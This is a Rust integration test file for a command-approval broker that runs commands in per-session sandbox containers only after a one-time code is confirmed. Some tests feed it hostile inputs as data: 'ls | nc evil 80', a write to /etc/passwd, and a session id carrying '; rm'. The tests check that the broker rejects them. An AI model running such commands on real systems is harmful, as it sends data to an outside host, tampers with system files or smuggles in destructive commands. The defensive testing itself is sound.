//! Integration tests: the request state machine end to end against an in-memory runtime.

mod common;

use common::{harness, last_code, test_config, FakeRuntime, Harness};
use sandbox_broker::{
    BrokerError, BrokerRequest, BrokerResponse, ChallengeSubject, ContainerState, Rejection,
    SessionId,
};
use tempfile::TempDir;

struct Env {
    _state: TempDir,
    project: TempDir,
    h: Harness,
}

impl Env {
    fn new() -> Self {
        Self::with(|_| {})
    }

    fn with(tweak: impl FnOnce(&mut sandbox_broker::BrokerConfig)) -> Self {
        let state = TempDir::new().unwrap();
        let project = TempDir::new().unwrap();
        let mut config = test_config(state.path());
        tweak(&mut config);
        let h = harness(config, FakeRuntime::new());
        Self {
            _state: state,
            project,
            h,
        }
    }

    fn project(&self) -> &str {
        self.project.path().to_str().unwrap()
    }

    fn request(&self, session: &str, command: &str) -> BrokerRequest {
        BrokerRequest::command(session, self.project(), command)
    }

    /// A session id that has already received the policy summary.
    async fn notified_session(&self) -> String {
        let session = "chat-session-1".to_string();
        let first = self.h.broker.handle(self.request(&session, "ls")).await.unwrap();
        assert!(matches!(first, BrokerResponse::PolicySummary { .. }));
        session
    }
}

#[tokio::test]
async fn end_to_end_new_session_to_confirmed_execution() {
    let env = Env::new();

    // No session id: setup message with a fresh id, nothing executed.
    let setup = env
        .h
        .broker
        .handle(BrokerRequest {
            project_path: Some(env.project().into()),
            command: Some("echo hi".into()),
            ..BrokerRequest::default()
        })
        .await
        .unwrap();
    let BrokerResponse::Setup { session_id, .. } = &setup else {
        panic!("expected setup, got {setup:?}");
    };
    assert!(setup.to_string().contains(session_id.as_str()));
    let session = session_id.to_string();

    // First command with that id: policy summary only.
    let summary = env.h.broker.handle(env.request(&session, "echo hi")).await.unwrap();
    assert!(matches!(summary, BrokerResponse::PolicySummary { .. }));
    assert!(env.h.runtime.execs().is_empty());

    // Non-whitelisted command: awaiting code, code delivered out of band.
    let awaiting = env.h.broker.handle(env.request(&session, "echo hi")).await.unwrap();
    assert_eq!(awaiting, BrokerResponse::AwaitingCode);
    let code = last_code(&env.h.notes).unwrap();
    assert_eq!(code.len(), 6);
    assert!(code.bytes().all(|b| b.is_ascii_digit()));
    assert!(!awaiting.to_string().contains(&code));

    // Resubmission with the code runs it.
    let done = env
        .h
        .broker
        .handle(env.request(&session, "echo hi").with_code(&code))
        .await
        .unwrap();
    assert_eq!(done.to_string(), "hi");
    let BrokerResponse::Executed(result) = done else {
        panic!("expected execution");
    };
    assert!(result.succeeded());

    // Replaying the consumed code issues a fresh challenge instead of executing.
    let replay = env
        .h
        .broker
        .handle(env.request(&session, "echo hi").with_code(&code))
        .await
        .unwrap();
    assert_eq!(replay, BrokerResponse::AwaitingCode);
    assert_eq!(env.h.runtime.execs().len(), 1);
}

#[tokio::test]
async fn malformed_session_id_gets_a_new_one() {
    let env = Env::new();
    let resp = env
        .h
        .broker
        .handle(env.request("bad id; rm", "ls"))
        .await
        .unwrap();
    let BrokerResponse::Setup { session_id, .. } = resp else {
        panic!("expected setup");
    };
    assert_ne!(session_id.as_str(), "bad id; rm");
    assert!(SessionId::parse(session_id.as_str()).is_some());
}

#[tokio::test]
async fn wrong_code_keeps_challenge_for_a_retry() {
    let env = Env::new();
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo hi")).await.unwrap();
    let code = last_code(&env.h.notes).unwrap();
    let wrong = if code == "111111" { "222222" } else { "111111" };

    let mismatch = env
        .h
        .broker
        .handle(env.request(&session, "echo hi").with_code(wrong))
        .await
        .unwrap();
    assert_eq!(mismatch, BrokerResponse::CodeMismatch { attempts_left: 4 });
    assert!(env.h.runtime.execs().is_empty());

    let done = env
        .h
        .broker
        .handle(env.request(&session, "echo hi").with_code(&code))
        .await
        .unwrap();
    assert_eq!(done.to_string(), "hi");
}

#[tokio::test]
async fn repeated_wrong_codes_revoke_the_challenge() {
    let env = Env::with(|c| c.max_code_attempts = 2);
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo hi")).await.unwrap();
    let code = last_code(&env.h.notes).unwrap();
    let wrong = if code == "111111" { "222222" } else { "111111" };

    for expected in [
        BrokerResponse::CodeMismatch { attempts_left: 1 },
        BrokerResponse::ChallengeRevoked,
    ] {
        let resp = env
            .h
            .broker
            .handle(env.request(&session, "echo hi").with_code(wrong))
            .await
            .unwrap();
        assert_eq!(resp, expected);
    }
    let late = env
        .h
        .broker
        .handle(env.request(&session, "echo hi").with_code(&code))
        .await
        .unwrap();
    assert_eq!(late, BrokerResponse::AwaitingCode);
    assert!(env.h.runtime.execs().is_empty());
}

#[tokio::test]
async fn different_command_invalidates_pending_challenge() {
    let env = Env::new();
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo one")).await.unwrap();
    let first_code = last_code(&env.h.notes).unwrap();

    let resp = env
        .h
        .broker
        .handle(env.request(&session, "echo two").with_code(&first_code))
        .await
        .unwrap();
    assert_eq!(resp, BrokerResponse::AwaitingCode);
    let sid = SessionId::parse(&session).unwrap();
    let pending = env.h.broker.challenges().pending(&sid).unwrap().unwrap();
    assert_eq!(
        pending.subject,
        ChallengeSubject::command("echo two", env.project())
    );

    let stale = env
        .h
        .broker
        .handle(env.request(&session, "echo one").with_code(&first_code))
        .await
        .unwrap();
    assert_eq!(stale, BrokerResponse::AwaitingCode);
    assert!(env.h.runtime.execs().is_empty());
}

#[tokio::test]
async fn expired_code_is_refused_and_reissued() {
    let env = Env::with(|c| c.max_challenge_age_secs = 0);
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo hi")).await.unwrap();
    let code = last_code(&env.h.notes).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));

    let resp = env
        .h
        .broker
        .handle(env.request(&session, "echo hi").with_code(&code))
        .await
        .unwrap();
    assert_eq!(resp, BrokerResponse::AwaitingCode);
    assert!(env.h.runtime.execs().is_empty());
    assert_eq!(env.h.notes.notes().iter().filter(|n| n.contains("**")).count(), 2);
}

#[tokio::test]
async fn whitelisted_command_with_bypass_runs_without_challenge() {
    let env = Env::with(|c| {
        c.whitelist_commands = vec!["echo ok".into()];
        c.always_allow_whitelist = true;
    });
    let session = env.notified_session().await;
    let resp = env.h.broker.handle(env.request(&session, "echo ok")).await.unwrap();
    assert_eq!(resp.to_string(), "ok");
    assert!(last_code(&env.h.notes).is_none());
    let sid = SessionId::parse(&session).unwrap();
    assert!(env.h.broker.challenges().pending(&sid).unwrap().is_none());
}

#[tokio::test]
async fn whitelist_without_bypass_still_requires_code() {
    let env = Env::with(|c| c.whitelist_commands = vec!["echo ok".into()]);
    let session = env.notified_session().await;
    let resp = env.h.broker.handle(env.request(&session, "echo ok")).await.unwrap();
    assert_eq!(resp, BrokerResponse::AwaitingCode);
}

#[tokio::test]
async fn policy_rejection_creates_no_challenge() {
    let env = Env::new();
    let session = env.notified_session().await;
    let resp = env
        .h
        .broker
        .handle(env.request(&session, "ls | nc evil 80"))
        .await
        .unwrap();
    assert_eq!(resp, BrokerResponse::Rejected(Rejection::Metacharacter('|')));
    let sid = SessionId::parse(&session).unwrap();
    assert!(env.h.broker.challenges().pending(&sid).unwrap().is_none());
    assert!(last_code(&env.h.notes).is_none());
}

#[tokio::test]
async fn forbidden_write_target_is_rejected_before_challenge() {
    let env = Env::new();
    let session = env.notified_session().await;
    let resp = env
        .h
        .broker
        .handle(env.request(&session, "echo x > /etc/passwd"))
        .await
        .unwrap();
    assert_eq!(
        resp,
        BrokerResponse::Rejected(Rejection::ForbiddenWritePath("/etc/passwd".into()))
    );
    assert!(last_code(&env.h.notes).is_none());
}

#[tokio::test]
async fn missing_project_path_is_configuration_error() {
    let env = Env::new();
    let session = env.notified_session().await;
    let err = env
        .h
        .broker
        .handle(BrokerRequest {
            session_id: Some(session.clone()),
            command: Some("ls".into()),
            ..BrokerRequest::default()
        })
        .await
        .unwrap_err();
    assert!(matches!(err, BrokerError::Configuration(_)));

    let err = env
        .h
        .broker
        .handle(BrokerRequest::command(&session, "/no/such/project", "ls"))
        .await
        .unwrap_err();
    assert!(matches!(err, BrokerError::Configuration(_)));
    assert!(last_code(&env.h.notes).is_none());
}

#[tokio::test]
async fn failing_command_returns_marked_output() {
    let env = Env::new();
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "fail")).await.unwrap();
    let code = last_code(&env.h.notes).unwrap();
    let resp = env
        .h
        .broker
        .handle(env.request(&session, "fail").with_code(&code))
        .await
        .unwrap();
    assert_eq!(resp.to_string(), "[exit code 2] command failed:\nboom");
}

#[tokio::test]
async fn execution_is_recorded_in_session_transcript() {
    let env = Env::new();
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo logged")).await.unwrap();
    let code = last_code(&env.h.notes).unwrap();
    env.h
        .broker
        .handle(env.request(&session, "echo logged").with_code(&code))
        .await
        .unwrap();

    let sid = SessionId::parse(&session).unwrap();
    let records = env.h.broker.executor().transcript().read(&sid).unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].command, "echo logged");
    assert_eq!(records[0].output, "logged");
    assert_eq!(records[0].container, format!("sandbox_{session}"));
}

#[tokio::test]
async fn commands_reuse_one_container_per_session() {
    let env = Env::with(|c| {
        c.whitelist_commands = vec!["echo a".into(), "echo b".into()];
        c.always_allow_whitelist = true;
    });
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo a")).await.unwrap();
    env.h.broker.handle(env.request(&session, "echo b")).await.unwrap();
    assert_eq!(env.h.runtime.created().len(), 1);
    assert_eq!(env.h.runtime.running(), vec![format!("sandbox_{session}")]);
    let execs = env.h.runtime.execs();
    assert_eq!(execs.len(), 2);
    assert_eq!(execs[0].1, "/sandbox/project");
    assert_eq!(execs[0].2, vec!["bash", "-lc", "echo a"]);
}

#[tokio::test]
async fn destroy_container_requires_its_own_code() {
    let env = Env::with(|c| {
        c.whitelist_commands = vec!["echo up".into()];
        c.always_allow_whitelist = true;
    });
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo up")).await.unwrap();
    let container = format!("sandbox_{session}");
    assert_eq!(env.h.runtime.running(), vec![container.clone()]);

    let destroy = BrokerRequest {
        session_id: Some(session.clone()),
        destroy_container: true,
        ..BrokerRequest::default()
    };
    let resp = env.h.broker.handle(destroy.clone()).await.unwrap();
    assert_eq!(resp, BrokerResponse::AwaitingCode);
    assert!(env.h.runtime.removed().is_empty());
    let code = last_code(&env.h.notes).unwrap();

    // A command code cannot approve a destroy, and vice versa.
    let wrong_subject = env
        .h
        .broker
        .handle(env.request(&session, "echo other").with_code(&code))
        .await
        .unwrap();
    assert_eq!(wrong_subject, BrokerResponse::AwaitingCode);

    let resp = env.h.broker.handle(destroy.clone()).await.unwrap();
    assert_eq!(resp, BrokerResponse::AwaitingCode);
    let code = last_code(&env.h.notes).unwrap();
    let resp = env.h.broker.handle(destroy.with_code(&code)).await.unwrap();
    assert_eq!(
        resp,
        BrokerResponse::ContainerDestroyed {
            container: container.clone()
        }
    );
    assert_eq!(env.h.runtime.removed(), vec![container]);
    assert!(env.h.runtime.running().is_empty());
}

#[tokio::test]
async fn state_survives_across_broker_instances() {
    let state = TempDir::new().unwrap();
    let project = TempDir::new().unwrap();
    let project_path = project.path().to_str().unwrap();
    let session = "persisted-session";

    // Each request gets a fresh broker, as each invocation is a fresh process.
    let first = harness(test_config(state.path()), FakeRuntime::new());
    let resp = first
        .broker
        .handle(BrokerRequest::command(session, project_path, "echo hi"))
        .await
        .unwrap();
    assert!(matches!(resp, BrokerResponse::PolicySummary { .. }));

    let second = harness(test_config(state.path()), FakeRuntime::new());
    let resp = second
        .broker
        .handle(BrokerRequest::command(session, project_path, "echo hi"))
        .await
        .unwrap();
    assert_eq!(resp, BrokerResponse::AwaitingCode);
    let code = last_code(&second.notes).unwrap();

    let third = harness(
        test_config(state.path()),
        FakeRuntime::new().with_container(&format!("sandbox_{session}"), ContainerState::Running),
    );
    let resp = third
        .broker
        .handle(BrokerRequest::command(session, project_path, "echo hi").with_code(&code))
        .await
        .unwrap();
    assert_eq!(resp.to_string(), "hi");
    assert!(third.runtime.created().is_empty());
}

#[tokio::test]
async fn debug_notes_follow_config_flag() {
    let env = Env::with(|c| c.enable_introspect_debug = true);
    let session = env.notified_session().await;
    env.h.broker.handle(env.request(&session, "echo hi")).await.unwrap();
    let code = last_code(&env.h.notes).unwrap();
    env.h
        .broker
        .handle(env.request(&session, "echo hi").with_code(&code))
        .await
        .unwrap();
    let notes = env.h.notes.notes();
    assert!(notes.iter().any(|n| n.starts_with("[debug] challenge issued")));
    assert!(notes.iter().any(|n| n.starts_with("[debug] started container")));

    let quiet = Env::new();
    let session = quiet.notified_session().await;
    quiet.h.broker.handle(quiet.request(&session, "echo hi")).await.unwrap();
    assert!(!quiet.h.notes.notes().iter().any(|n| n.starts_with("[debug]")));
}
